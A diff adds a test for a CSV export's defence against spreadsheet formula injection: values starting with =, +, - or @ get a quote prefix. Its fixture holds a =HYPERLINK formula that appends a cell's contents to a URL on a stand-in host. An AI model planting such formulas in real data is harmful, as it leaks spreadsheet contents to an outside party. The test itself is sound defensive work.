@@ -127,3 +127,40 @@ def test_an_export_can_hold_some_datasets_only(tmp_path: Path) -> None:
         "audit", "log", "--db", db, "--as", "mx-auditor", "--action", "export", "--json"
     )
     assert len(json.loads(out)) == 2  # the refusals exported nothing
+
+
+def test_a_statements_csv_quotes_text_a_spreadsheet_would_run(tmp_path: Path) -> None:
+    """`export --format statements` writes CSV that people open in spreadsheets: a value
+    starting with =, +, - or @ gets a single quote before it (review R5 F4), a plain number
+    ("-99.13") stays as it is, and the Parquet export keeps every value as stored."""
+    db = tmp_path / "x.db"
+    store = open_store(f"sqlite:///{db}")
+    rows = [
+        ("x1", "Person", "name", '=HYPERLINK("http://x.example/?"&A1,"open")'),
+        ("x1", "Person", "alias", "@SUM(A1:A9)"),
+        ("x1", "Person", "weight", "-99.13"),
+        ("x1", "Person", "phone", "+525512345678"),
+        ("x1", "Person", "notes", "+52 55 1234 5678"),
+    ]
+    with store.writer() as w:
+        w.ensure_dataset(OPEN)
+        w.add_statements(table(OPEN.name, rows), OPEN.name, OPEN.label)
+    store.close()
+    args = ("export", "--db", str(db), "--as", "mx-fgr-analista", "--reason", "r")
+    code, _out, err = run(*args, "--format", "statements", "-o", str(tmp_path / "s.csv"))
+    assert code == 0, err
+    with (tmp_path / "s.csv").open(encoding="utf-8") as f:
+        values = {r["prop"]: r["value"] for r in csv.DictReader(f)}
+    assert values == {
+        "name": '\'=HYPERLINK("http://x.example/?"&A1,"open")',
+        "alias": "'@SUM(A1:A9)",
+        "weight": "-99.13",
+        "phone": "+525512345678",
+        "notes": "'+52 55 1234 5678",
+    }
+    code, _out, err = run(*args, "--format", "parquet", "-o", str(tmp_path / "s.parquet"))
+    assert code == 0, err
+    import pyarrow.parquet as pq
+
+    stored = pq.read_table(tmp_path / "s.parquet").select(["prop", "value"]).to_pylist()
+    assert {r["prop"]: r["value"] for r in stored} == {p: v for _e, _s, p, v in rows}
